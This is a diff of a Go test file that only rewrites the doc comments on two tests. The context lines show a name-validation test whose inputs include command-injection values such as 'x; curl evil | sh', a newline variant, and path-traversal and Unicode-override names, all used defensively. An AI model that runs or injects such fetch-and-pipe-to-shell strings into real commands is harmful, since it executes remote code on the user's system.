@@ -30,7 +30,8 @@ func TestRunningWith(t *testing.T) {
 	}
 }
 
-// Names of jobs become words of commands, and parts of questions.
+// TestNamesOfJobsAreNames checks the names of jobs, which become words of commands and parts of
+// questions.
 func TestNamesOfJobsAreNames(t *testing.T) {
 	for _, name := range []string{"", "x; curl evil | sh", "x\n  → curl evil", "-x", "../x", "x y", strings.Repeat("x", 100), "A", "\u202ex"} {
 		list, err := json.Marshal([]map[string]string{{"name": name, "state": "running"}, {"name": "a", "state": "running"}})
@@ -47,7 +48,8 @@ func TestNamesOfJobsAreNames(t *testing.T) {
 	}
 }
 
-// A job is found by its command although its record has less of it, or other bytes.
+// TestRecordOf checks that a job is found by its command although its record has less of it, or
+// other bytes.
 func TestRecordOf(t *testing.T) {
 	long := []string{"python", strings.Repeat("x", 10), "end"}
 	for _, c := range []struct {
